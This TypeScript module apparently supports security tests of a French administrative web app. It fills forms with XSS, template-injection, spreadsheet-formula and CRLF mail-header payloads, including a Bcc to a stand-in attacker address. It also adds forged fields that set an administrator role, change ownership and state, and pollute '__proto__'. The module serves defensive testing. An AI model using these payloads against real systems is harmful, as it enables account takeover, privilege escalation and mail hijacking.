import { password } from '../support/visitor.ts';
import { MARK, type SeenField, type SeenForm } from './read-pages.ts';
import { ELSEWHERE, SIRET } from './scene.ts';

/** The e-mail, date, number and name that nothing but a form that takes what it should not could keep. */
export const smuggled = {
  email: 'contrebande@pirate.example',
  date: '2001-02-03T04:05:06.000Z',
  number: '424242',
  text: 'contrebande-1',
} as const;

/** Fields named as what is kept, that no form has asked for. */
export function besides(pirate: string): readonly (readonly [string, string])[] {
  const { email, date, number, text } = smuggled;
  return [
    ...[
      'id',
      'compte',
      'demandeur',
      'demande',
      'auteur',
      'habilitation',
      'jti',
      'copie_de',
      'copieDe',
      'rapporteur',
    ].map((name) => [name, pirate] as const),
    ...[
      'cree_le',
      'creee_le',
      'modifie_le',
      'verifie_le',
      'premier_envoi_le',
      'envoyee_le',
      'decidee_le',
      'expire_le',
      'le',
    ].map((name) => [name, date] as const),
    ...['email', 'destinataire', 'par', 'auteur_email', 'nom_demandeur'].map((name) => [name, email] as const),
    ...['numero', 'cle', 'empreinte', 'cgu_version', 'objet', 'cible'].map((name) => [name, text] as const),
    ...([
      ['version', number],
      ['siret', ELSEWHERE],
      ['roles', 'administrateur'],
      ['role', 'administrateur'],
    ] as const),
    ...([
      ['etat', 'validee'],
      ['reouverture', 'true'],
      ['cote', 'instruction'],
      ['desactive_le', date],
    ] as const),
    ...([
      ['contenu[description]', text],
      ['contenu', `{"description":"${text}"}`],
      ['__proto__[etat]', text],
    ] as const),
  ];
}

/** How a form is filled, time after time: whatever comes, then what could be believed, then addresses that are not what they seem. */
export const passes = ['anything', 'plausible', 'addresses'] as const;
export type Pass = (typeof passes)[number];

/** `M12M`: what was typed there, whatever became of the rest. */
export const numberOf = (rank: number): string => `M${rank}M`;

/** Breaks out of text, attributes, comments, templates, Markdown, mails' headers, cells of spreadsheets; the last sign turns the line round. */
export const everything = (number: string): string =>
  `=1+1;"'>--></textarea></title></script><${MARK} onclick="alert(1)">${number}</${MARK}><img src=x onerror=alert(1)>[a](javascript:alert(1))` +
  '{{7*7}}<%= 7*7 %>\r\nBcc: cible@pirate.example\r\n\u202E';
/** The same in the room of a name. */
const short = (number: string): string => `"><${MARK}>${number}`;

const believable: Readonly<Record<string, string>> = {
  siret: SIRET,
  conservation_mois: '24',
  volume_annuel: '1200',
  pointe_par_minute: '10',
  code_http: '502',
  request_id: 'abc-1',
  telephone: '01 23 45 67 89',
  mise_en_production: '2027-03-15',
  appel_le: '2026-01-10T10:00',
  debut: '2027-03-15T10:00',
  fin: '2027-03-15T12:00',
  identifiant: SIRET,
  annee: '2024',
};

interface Filling {
  readonly pass: Pass;
  /** Gives the next mark, and remembers where it is typed. */
  readonly mark: (field: string) => string;
  readonly pirate: string;
  /** What names something that is there, by the field that asks for it. */
  readonly named: Readonly<Record<string, string>>;
}

/** What is sent: every field of the form, filled, and others that it has not. */
export function filled(form: SeenForm, button: { name: string; value: string }, filling: Filling): URLSearchParams {
  const body = new URLSearchParams();
  const names = new Set(form.fields.map(({ name }) => name));
  for (const name of names) {
    const fields = form.fields.filter((field) => field.name === name);
    for (const value of valuesFor(name, fields, filling)) body.append(name, value);
  }
  if (button.name !== '') body.append(button.name, button.value);
  for (const [name, value] of besides(filling.pirate)) if (!names.has(name)) body.append(name, value);
  return body;
}

/** The form that asks to confirm what was typed, sent as it is. */
export function confirmed(form: SeenForm): URLSearchParams | null {
  if (!form.fields.some(({ name, kind }) => name === 'confirme' && kind === 'hidden')) return null;
  const body = new URLSearchParams();
  for (const { name, value } of form.fields) body.append(name, value);
  return body;
}

function valuesFor(name: string, fields: readonly SeenField[], filling: Filling): readonly string[] {
  const [field] = fields;
  if (field === undefined || field.kind === 'file') return [];
  const turn = passes.indexOf(filling.pass);
  if (field.kind === 'hidden') return fields.map(({ value }) => value);
  if (field.kind === 'radio') return [fields[turn % fields.length]?.value ?? ''];
  if (field.kind === 'checkbox') {
    const checked = fields.filter(({ isChecked }) => isChecked).map(({ value }) => value);
    return checked.length > 0 ? checked : [field.value];
  }
  if (field.kind === 'select') {
    const options = field.options.filter((option) => option !== '');
    return [options[turn % Math.max(1, options.length)] ?? ''];
  }
  return fields.map(() => typedIn(name, field, filling));
}

function typedIn(name: string, { kind, value }: SeenField, { pass, mark, named }: Filling): string {
  if (kind === 'password') return password;
  const number = mark(name);
  if (pass === 'anything') return everything(number);
  // What names it among others stays what it is.
  if (name === 'siret' && value !== '') return value;
  const plain = named[name] ?? believable[name] ?? believable[name.replace(/^contact_\w+?_|^\w+_(?=telephone$)/, '')];
  if (plain !== undefined) return plain;
  if (kind === 'email' || name.endsWith('email')) return `marque.${number.toLowerCase()}@mairie.example`;
  if (kind === 'datetime-local' || kind === 'date') return value;
  if (kind === 'url' || name.endsWith('url'))
    return pass === 'plausible'
      ? `javascript:alert("${number}")`
      : `https://x.example/"onfocus="alert(1)"${short(number)}`;
  return pass === 'plausible' || kind !== 'textarea' ? short(number) : everything(number);
}
